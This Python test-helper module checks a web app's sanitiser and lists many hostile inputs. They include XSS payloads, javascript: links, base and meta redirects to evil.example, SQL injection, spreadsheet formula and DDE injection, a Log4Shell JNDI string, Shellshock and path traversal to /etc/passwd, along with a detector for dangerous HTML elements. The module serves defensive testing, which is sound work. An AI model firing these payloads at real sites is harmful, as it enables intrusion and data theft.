"""Texts that somebody may send to do harm, and what a page must not hold once they are in it."""

import json
import re
from pathlib import Path
from typing import Any

from console.core.text import clean, one_line
from tests.pages import Element, read

VECTORS = Path(__file__).parents[3] / "shared" / "data" / "vectors"
LOOSE_COMMENT = re.compile(r"^\s*/\*.*\*/\s*$", re.MULTILINE)
TOUCH = "window.touched=1"
"""What every script among the texts does: a browser tells whether one of them ran."""

TEXTS = (
    # Markup, out of every place where a text may stand.
    f"<script>{TOUCH}</script>",
    f"<ScRiPt >{TOUCH}</sCrIpT >",
    f'"><script>{TOUCH}</script>',
    f"'><img src=x onerror={TOUCH}>",
    f"</textarea><script>{TOUCH}</script>",
    f"</title></style></noscript><script>{TOUCH}</script>",
    f"</script><script>{TOUCH}</script>",
    f"--><svg onload={TOUCH}>",
    f"]]><img src=x onerror={TOUCH}>",
    f"<svg><style><img src=x onerror={TOUCH}></style></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={TOUCH}>",
    f'" autofocus onfocus="{TOUCH}" x="',
    f"' onmouseover='{TOUCH}' x='",
    f"` onmouseover={TOUCH} `",
    f'<iframe srcdoc="<script>parent.{TOUCH}</script>">',
    f"<a href=javascript:{TOUCH}>here</a>",
    f"<a href='java\nscript:{TOUCH}'>here</a>",
    f"<details open ontoggle={TOUCH}>",
    f"<body onload={TOUCH}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Sign in",
    "<input name=csrf_token value=x><button name=row_action value=approve:1>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<template><p hx-get=//evil.example hx-trigger=load>",
    f"[here](javascript:{TOUCH}) ![x](data:text/html,<script>{TOUCH}</script>)",
    f"[here](<javascript:{TOUCH}>) <javascript:{TOUCH}>",
    "&lt;script&gt; &amp;lt; &#x3c;script&#x3e; &nbsp",
    # Languages within pages, files and statements.
    "{{ 7*7 }} {% raw %} {{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %n %(name)s %% {0} {name}",
    "'; DROP TABLE comments; -- \" ` \\",
    "1' OR '1'='1' UNION SELECT * FROM users--",
    '=HYPERLINK("//evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "\t=1+1",
    "\uff1d1+1",
    '","=1+1\n"second line", "quoted"\r\nthird',
    "Subject: x\r\nBcc: everybody@example.com\r\n\r\nbody",
    "../../../etc/passwd %2e%2e%2f file:///etc/passwd",
    "${jndi:ldap://evil.example/x} () { :;}; /bin/true",
    # Letters that do not behave.
    "\u202egnp.exe\u202c \u2066\u2067\u2068\u2069 \u200f\u200e",
    "zero\u200bwidth\ufeff joiner\u200d non\u00adbreaking \u2028line\u2029paragraph",
    "Z̸̡̛͓̗̪͙͔͖̥̠͚̮a̴̢̛l̶g̵o̷",
    "👩‍👩‍👧‍👦 🏴‍☠️ 🇺🇳 ﷽ \U0001d4b3 \U0010ffff",
    "nul\x00bell\x07escape\x1b[2Jdelete\x7f\x85",
    "مرحبا <b>abc</b> שלום",
    "W" * 3_000,
    "\n".join("x" * (n % 3) for n in range(300)) + "end",
)
"""Our own: each is unlike the others, and none is empty once it is cleaned."""


def files() -> dict[str, list[str]]:
    """Return the texts of the collections beside the project; none where there are none."""
    found = {
        "bleach": _json("xss/bleach.json", "payload"),
        "html5lib": _json("xss/html5lib-sanitizer-tests1.clean.json", "input"),
        "blns": _lines("blns/blns.txt"),
    }
    return {name: texts for name, texts in found.items() if texts}


def _json(name: str, key: str) -> list[str]:
    path = VECTORS / name
    if not path.exists():
        return []
    rows: list[dict[str, Any]] = json.loads(LOOSE_COMMENT.sub("", path.read_text()))
    return [row[key] for row in rows if clean(row[key]).strip()]


def _lines(name: str) -> list[str]:
    path = VECTORS / name
    if not path.exists():
        return []
    lines = path.read_text(encoding="utf-8").split("\n")
    return list(dict.fromkeys(line for line in lines if clean(line).strip() and line[:1] != "#"))


def as_body(text: str) -> str:
    """Return how a comment with this text is kept."""
    return clean(text).strip()


def as_name(text: str) -> str:
    """Return how an author of this name is kept."""
    return one_line(text)[:255]


RUNS = frozenset("applet base embed frame frameset iframe marquee math meta object portal".split())
HEADS = frozenset({"head", "template"})
ADDRESSES = ("action", "data", "formaction", "href", "poster", "src", "srcdoc", "xlink:href")


def dangers(html: str) -> list[str]:
    """Return what stands in a page of ours that only a text of others can have brought."""
    return [danger for element in read(html).walk() for danger in _dangers(element)]


def _dangers(element: Element) -> list[str]:
    found = [f"{name}=" for name in element.values if name.startswith("on") or name == "style"]
    found += [f"{name}={element[name]}" for name in ADDRESSES if not _is_ours(element[name])]
    in_head = any(part.tag == "head" for part in element.up())
    if element.tag in RUNS and not (element.tag == "meta" and in_head):
        found.append(f"<{element.tag}>")
    if element.tag in {"script", "style"} and not (element["nonce"] or element["src"]):
        found.append(f"<{element.tag}>")
    if element.tag == "link" and not in_head:
        found.append("<link>")
    return found


def _is_ours(address: str) -> bool:
    """Read as browsers do (WHATWG URL): without controls around it, and tabs and lines within."""
    seen = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(0x21))))).lower()
    if seen == "data:,":  # the icon that a page does not have
        return True
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", seen)
    if scheme and scheme[1] not in {"http", "https", "mailto"}:
        return False
    return not seen.startswith("//")
